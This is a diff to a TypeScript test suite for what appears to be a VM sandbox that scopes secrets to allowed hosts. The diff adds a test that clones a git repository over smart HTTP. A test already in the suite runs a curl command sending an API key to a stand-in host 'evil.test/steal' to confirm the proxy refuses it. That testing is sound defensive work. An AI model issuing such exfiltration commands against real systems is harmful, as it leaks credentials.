@@ -1,5 +1,6 @@
 import assert from "node:assert/strict";
-import { mkdtemp, readdir, readFile, rm, stat } from "node:fs/promises";
+import { execFileSync } from "node:child_process";
+import { mkdtemp, readdir, readFile, rm, stat, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { after, before, describe, it } from "node:test";
@@ -31,13 +32,21 @@ describe("[vm] scoped secrets: placeholders in the guest, values only at the egr
 
   before(async () => {
     scratch = await mkdtemp(join(tmpdir(), "pyro-scoped-"));
-    upstream = await startTlsTestServer(scratch, (r) => `got ${r.method} ${r.url} auth=${r.headers.authorization}\n`);
+    // A bare repository served over git smart HTTP to clients whose Basic password is the value.
+    const seed = join(scratch, "seed");
+    const git = (...args: string[]) => execFileSync("git", args, { cwd: scratch, env: { ...process.env, GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@t", GIT_COMMITTER_NAME: "t", GIT_COMMITTER_EMAIL: "t@t" } });
+    git("init", "-q", "-b", "main", seed);
+    await writeFile(join(seed, "hello.txt"), "served over smart HTTP\n");
+    git("-C", seed, "add", "hello.txt");
+    git("-C", seed, "commit", "-qm", "seed");
+    git("clone", "-q", "--bare", seed, join(scratch, "repos", "repo.git"));
+    upstream = await startTlsTestServer(scratch, (r) => `got ${r.method} ${r.url} auth=${r.headers.authorization}\n`, { root: join(scratch, "repos"), password: VALUE });
     // Test-only knobs, read from this (host) process's environment when the VM's proxy starts.
-    process.env.PYRO_TEST_EGRESS_RESOLVE = "api.test=127.0.0.1,evil.test=127.0.0.1";
+    process.env.PYRO_TEST_EGRESS_RESOLVE = "api.test=127.0.0.1,git.test=127.0.0.1,evil.test=127.0.0.1";
     process.env.PYRO_TEST_EGRESS_UPSTREAM_CA = upstream.caPath;
-    const ws = await pyro.createWorkspace("debian:12", { networkPolicy: "egress", allowHosts: ["127.0.0.1"], secrets: { API_KEY: VALUE, DB_PASSWORD: "injected-pw-31337" }, secretHosts: { API_KEY: "api.test" } });
+    const ws = await pyro.createWorkspace("debian:12", { networkPolicy: "egress", allowHosts: ["127.0.0.1"], secrets: { API_KEY: VALUE, DB_PASSWORD: "injected-pw-31337" }, secretHosts: { API_KEY: "api.test,git.test" } });
     id = ws.workspace_id;
-    assert.deepEqual(ws.scoped_secrets, [{ name: "API_KEY", hosts: ["api.test"] }]);
+    assert.deepEqual(ws.scoped_secrets, [{ name: "API_KEY", hosts: ["api.test", "git.test"] }]);
     assert.equal(ws.tls_interception, true);
   });
   after(async () => {
@@ -76,6 +85,17 @@ describe("[vm] scoped secrets: placeholders in the guest, values only at the egr
     assert.equal(got.body, `k=${VALUE}`);
   });
 
+  it("git clones over smart HTTP with the placeholder as its password; the server gets the value", TIMEOUT, async () => {
+    const clone = await pyro.execWorkspace(id, ["sh", "-c", `git clone -q "https://git:$API_KEY@git.test:${upstream.port}/git/repo.git" /tmp/repo && cat /tmp/repo/hello.txt`]);
+    assert.equal(clone.exit_code, 0, clone.stderr);
+    assert.equal(clone.stdout, "served over smart HTTP\n");
+    const gitRequests = upstream.received.filter((r) => r.url.startsWith("/git/") && r.headers.authorization);
+    assert.ok(gitRequests.length > 0);
+    for (const r of gitRequests) assert.equal(Buffer.from(r.headers.authorization!.slice(6), "base64").toString(), `git:${VALUE}`);
+    const mapped = await pyro.execWorkspace(id, ["sh", "-c", "echo \"$TOKEN\""], { secretEnv: ["API_KEY=TOKEN"] });
+    assert.equal(mapped.stdout, `${placeholder}\n`, "--secret-env of a scoped secret maps its placeholder");
+  });
+
   it("refuses the placeholder sent to another host, and a different workspace's CA does not verify", TIMEOUT, async () => {
     const before = upstream.received.length;
     const evil = await pyro.execWorkspace(id, ["sh", "-c", `curl -sS -m 60 -w '\\n%{http_code}' -H "X-Exfil: $API_KEY" ${url("evil.test", "/steal")}`]);
@@ -85,7 +105,7 @@ describe("[vm] scoped secrets: placeholders in the guest, values only at the egr
     const other = await pyro.execWorkspace(id, ["sh", "-c", `curl -sS -m 60 --cacert /workspace/other-ca.pem ${url("api.test", "/x")} 2>&1; echo "exit=$?"`]);
     assert.match(other.stdout, /SSL certificate problem[\s\S]*exit=60/);
     const logs = await pyro.logsWorkspace(id);
-    assert.deepEqual(logs.secrets?.map((s) => [s.name, s.scope, s.sent_to["api.test"], s.refused_hosts]), [["API_KEY", ["api.test"], 2, { "evil.test": 1 }]]);
+    assert.deepEqual(logs.secrets?.map((s) => [s.name, s.scope, s.sent_to["api.test"], s.sent_to["git.test"]! > 0, s.refused_hosts]), [["API_KEY", ["api.test", "git.test"], 2, true, { "evil.test": 1 }]]);
   });
 
   it("no file pyro keeps for the workspace (disk, snapshot memory, logs, audit) holds the value but the proxy's own", TIMEOUT, async () => {
